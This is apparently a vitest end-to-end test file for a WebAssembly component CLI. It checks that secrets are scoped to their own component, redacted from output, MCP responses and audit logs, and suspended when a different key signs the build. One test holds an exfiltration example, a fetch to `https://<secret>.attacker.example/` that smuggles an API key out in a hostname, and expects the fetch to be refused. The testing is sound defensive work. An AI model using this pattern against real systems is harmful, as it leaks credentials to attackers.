/**
 * Secrets and configuration from the built CLI: set without ever passing through argv, given to
 * exactly the component they were set for as environment variables (nothing else of the host's
 * environment), redacted from anything the component hands back before a client sees it, and never
 * printed, listed or audited by value.
 */
import { copyFile, writeFile } from 'node:fs/promises';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { CLI_PATH, type Sandbox, describeRun, jsonOf, sandbox } from '../harness/cli.js';
import { jsComponentPath } from '../harness/js-fixtures.js';

const SECRET = 'sk-live-9f8e7d6c5b4a';
let fixture: string;
let configFixture: string;

beforeAll(async () => {
  [fixture, configFixture] = await Promise.all([jsComponentPath('wasi'), jsComponentPath('config')]);
}, 300_000);

async function withSecret(sb: Sandbox): Promise<string> {
  const component = sb.path('wasi.wasm');
  await copyFile(fixture, component);
  const set = await sb.run(['secret', 'set', component, 'API_KEY', '--stdin'], { input: `${SECRET}\n` });
  expect(set.code, describeRun(set)).toBe(0);
  expect(set.stdout + set.stderr).not.toContain(SECRET);
  const config = await sb.run(['config', 'set', component, 'UNITS', 'metric']);
  expect(config.code, describeRun(config)).toBe(0);
  return component;
}

describe('secrets and configuration', () => {
  it('are the only variables a component sees besides granted host keys, and only its own', async () => {
    const sb = await sandbox();
    const component = await withSecret(sb);
    const hostEnv = { HOST_ONLY: 'from the host', GRANTED: 'granted value' };
    const keys = await sb.run(['call', component, 'env-keys', '--grant', 'env:GRANTED', '--no-prompt'], {
      extraEnv: hostEnv,
    });
    expect(jsonOf(keys), describeRun(keys)).toMatchObject({
      ok: true,
      result: ['GRANTED', 'API_KEY', 'UNITS'],
    });
    const units = await sb.run(['call', component, 'get-env', '--args', '["UNITS"]', '--no-prompt']);
    expect(jsonOf(units)).toMatchObject({ ok: true, result: 'metric' });

    // Another component (another identity) gets none of them.
    const other = sb.path('other.wasm');
    await copyFile(fixture, other);
    const none = await sb.run(['call', other, 'env-keys', '--no-prompt'], { extraEnv: hostEnv });
    expect(jsonOf(none)).toMatchObject({ ok: true, result: [] });
  }, 120_000);

  it('a secret the component repeats is redacted from its result and its output, over MCP too', async () => {
    const sb = await sandbox();
    const component = await withSecret(sb);
    const called = await sb.run(['call', component, 'get-env', '--args', '["API_KEY"]', '--no-prompt']);
    expect(jsonOf(called)).toMatchObject({ ok: true, result: '[redacted]' });
    expect(called.stdout).not.toContain(SECRET);

    const client = new Client({ name: 'wtools-e2e', version: '1.0.0' });
    const transport = new StdioClientTransport({
      command: process.execPath,
      args: [CLI_PATH, 'serve', component, '--debug', '--no-prompt'],
      env: { PATH: process.env.PATH ?? '', ...sb.env },
      stderr: 'pipe',
    });
    let serverLog = '';
    transport.stderr?.on('data', (chunk: Buffer) => (serverLog += chunk.toString('utf8')));
    await client.connect(transport);
    onTestFinished(() => client.close());
    const logs: string[] = [];
    client.setNotificationHandler(
      (await import('@modelcontextprotocol/sdk/types.js')).LoggingMessageNotificationSchema,
      (n) => void logs.push(JSON.stringify(n.params)),
    );
    await client.setLoggingLevel('debug');
    const { tools } = await client.listTools();
    const name = (suffix: string) => tools.find((t) => t.name.endsWith(suffix))!.name;
    const got = await client.callTool({ name: name('.get-env'), arguments: { key: 'API_KEY' } });
    expect(got.structuredContent).toEqual({ result: '[redacted]' });
    const echoed = await client.callTool({ name: name('.log'), arguments: { text: `key=${SECRET}` } });
    expect(echoed.isError).toBeFalsy();
    await expect.poll(() => logs.join('\n')).toContain('key=[redacted]');
    expect(JSON.stringify([got, echoed]) + logs.join('\n') + serverLog).not.toContain(SECRET);
  }, 120_000);

  it('are never shown by value: ls lists names, grants and the audit log hold none', async () => {
    const sb = await sandbox();
    const component = await withSecret(sb);
    await sb.run(['call', component, 'env-keys', '--no-prompt']);
    const outputs = await Promise.all([
      sb.run(['secret', 'ls', component]),
      sb.run(['secret', 'ls', component, '--json']),
      sb.run(['grants', '--json']),
      sb.run(['audit', '--json']),
      sb.run(['audit']),
    ]);
    expect(outputs[0]!.stdout.trim()).toBe('API_KEY');
    expect(jsonOf(outputs[1]!)).toEqual({ identity: `file:${component}`, secrets: ['API_KEY'] });
    for (const run of outputs) expect(run.stdout + run.stderr).not.toContain(SECRET);
    expect(outputs[3]!.stdout).toContain('secret-set');
  }, 120_000);

  it('refuses a value on the command line and a secret too short to redact', async () => {
    const sb = await sandbox();
    const component = sb.path('wasi.wasm');
    await copyFile(fixture, component);
    const onArgv = await sb.run(['secret', 'set', component, 'API_KEY', SECRET]);
    expect(onArgv.code).toBe(2);
    const short = await sb.run(['secret', 'set', component, 'PIN', '--stdin'], { input: 'abc' });
    expect(short.code, describeRun(short)).toBe(2);
    expect(short.stderr).toContain('shorter than 4 characters');
    expect(short.stderr).not.toContain('abc');
    const badName = await sb.run(['secret', 'set', component, '1KEY', '--stdin'], { input: SECRET });
    expect(badName.stderr).toContain('expected a secret name like API_KEY');
  }, 60_000);

  it('a guest that puts a secret into a host name or path is refused without asking, and the secret stays out of every report', async () => {
    const sb = await sandbox();
    const component = await withSecret(sb);
    const run = await sb.run([
      'call',
      component,
      'fetch-text',
      '--args',
      JSON.stringify([`https://${SECRET}.attacker.example/`]),
    ]);
    const result = jsonOf<{ ok: boolean; error?: { value?: string } }>(run);
    expect(result.ok, describeRun(run)).toBe(false);
    expect(run.stdout + run.stderr).not.toContain(SECRET);
    const audit = await sb.run(['audit', '--json']);
    expect(audit.stdout).not.toContain(SECRET);
  }, 120_000);

  it('a damaged secret store stops the run (exit 7) without showing its contents', async () => {
    const sb = await sandbox();
    const component = await withSecret(sb);
    await writeFile(
      sb.path('wtools-home', 'config', 'secrets.json'),
      `{"version":1,"revision":1,"components":{"x":{"secrets":{"K":"${SECRET}"}}}}`,
    );
    const run = await sb.run(['call', component, 'env-keys', '--no-prompt']);
    expect(run.code, describeRun(run)).toBe(7);
    expect(run.stderr).toContain('the secret store');
    expect(run.stdout + run.stderr).not.toContain(SECRET);
    // Not even when it is not JSON (the engine's own message quotes the text around the fault).
    await writeFile(sb.path('wtools-home', 'config', 'secrets.json'), `{"version":1, "K": ${SECRET}}`);
    const broken = await sb.run(['call', component, 'env-keys', '--no-prompt']);
    expect(broken.code, describeRun(broken)).toBe(7);
    expect(broken.stderr).toContain('a JSON syntax error');
    expect(broken.stdout + broken.stderr).not.toContain(SECRET.slice(0, 6));
  }, 60_000);

  it('are what wasi:config/store answers, for the component they were set for', async () => {
    const sb = await sandbox();
    const component = sb.path('config.wasm');
    await copyFile(configFixture, component);
    await sb.run(['secret', 'set', component, 'TOKEN', '--stdin'], { input: SECRET });
    await sb.run(['config', 'set', component, 'REGION', 'eu-west']);
    const all = await sb.run(['call', component, 'all', '--no-prompt']);
    expect(jsonOf(all), describeRun(all)).toMatchObject({
      ok: true,
      result: [
        ['REGION', 'eu-west'],
        ['TOKEN', '[redacted]'],
      ],
    });
    const asks = jsonOf<{ asks: { interface: string; capability: string }[] }>(
      await sb.run(['inspect', component, '--json']),
    );
    expect(asks.asks).toEqual([
      expect.objectContaining({
        interface: 'wasi:config/store@0.2.0-draft',
        capability: expect.stringContaining('configuration and secrets'),
      }),
    ]);
  }, 120_000);

  it('belong to the signer, like grants: a build signed by another key gets none until confirmed', async () => {
    const sb = await sandbox({ trustPolicy: false });
    const component = sb.path('wasi.wasm');
    await copyFile(fixture, component);
    const layout = `oci:${sb.path('layout')}`;
    for (const who of ['alice', 'mallory']) {
      await sb.run(['keygen', '--output-prefix', sb.path(who), '--quiet']);
    }
    const signed = await sb.run(['push', component, `${layout}:1`, '--sign', '--key', sb.path('alice.key')]);
    expect(signed.code, describeRun(signed)).toBe(0);
    await sb.run(['secret', 'set', layout, 'API_KEY', '--stdin'], { input: SECRET });
    const asAlice = await sb.run([
      'call',
      `${layout}:1`,
      'env-keys',
      '--key',
      sb.path('alice.pub'),
      '--no-prompt',
    ]);
    expect(jsonOf(asAlice), describeRun(asAlice)).toMatchObject({ ok: true, result: ['API_KEY'] });

    // The same repository, now signed by another key the run accepts: its secrets are suspended.
    await sb.run(['sign', `${layout}:1`, '--key', sb.path('mallory.key')]);
    const asMallory = await sb.run([
      'call',
      `${layout}:1`,
      'env-keys',
      '--key',
      sb.path('mallory.pub'),
      '--no-prompt',
    ]);
    expect(jsonOf(asMallory), describeRun(asMallory)).toMatchObject({ ok: true, result: [] });
    expect(asMallory.stderr).toContain('--confirm-signer');
  }, 120_000);
});
